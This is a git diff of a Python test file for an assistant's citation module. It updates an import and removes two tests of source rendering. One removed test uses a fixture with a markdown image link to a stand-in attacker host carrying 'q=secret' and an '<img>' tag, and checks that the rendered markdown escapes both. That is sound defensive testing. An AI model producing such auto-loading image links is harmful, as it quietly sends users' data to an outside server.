@@ -2,12 +2,10 @@
 
 from __future__ import annotations
 
-import re
-
 from hypothesis import given
 from hypothesis import strategies as st
 
-from assistant.citations import check_answer, cited_numbers, render_sources_markdown
+from assistant.answering.citations import check_answer, cited_numbers
 from tests.hit_factory import make_hit
 
 LEAVE = make_hit(1, "Full-time members receive 25 days of annual leave per calendar year.")
@@ -88,25 +86,3 @@ def test_cleaned_text_only_cites_existing_sources(text: str) -> None:
     answer = check_answer("q", text, SOURCES)
     assert all(1 <= n <= len(SOURCES) for n in cited_numbers(answer.text))
     assert {c.number for c in answer.citations} == set(cited_numbers(answer.text))
-
-
-def test_render_sources_lists_cited_entries_and_collapsed_uncited() -> None:
-    answer = check_answer("q", "Hotels are reimbursed up to 150 EUR per night [3].", SOURCES)
-    md = render_sources_markdown(answer, uncited=(LEAVE,))
-    assert md.startswith("**[3] Travel**")
-    assert "Travel &gt; Hotels" in md
-    assert "page 2" in md
-    assert re.search(r"effective 2024\\?-01\\?-01", md)
-    assert "score 0.80" in md
-    assert "150 EUR per night" in md
-    assert "(/doc/travel%20policy.md#hotels)" in md
-    assert "<details><summary>Also retrieved (1)</summary>" in md
-    assert md.index("Leave Policy") > md.index("Also retrieved")
-
-
-def test_render_escapes_document_markdown() -> None:
-    evil = make_hit(1, "Click ![x](http://evil.example/?q=secret) <img src=x>", title="T")
-    answer = check_answer("q", "See [1].", (evil,))
-    md = render_sources_markdown(answer)
-    assert "![x](" not in md
-    assert "<img" not in md
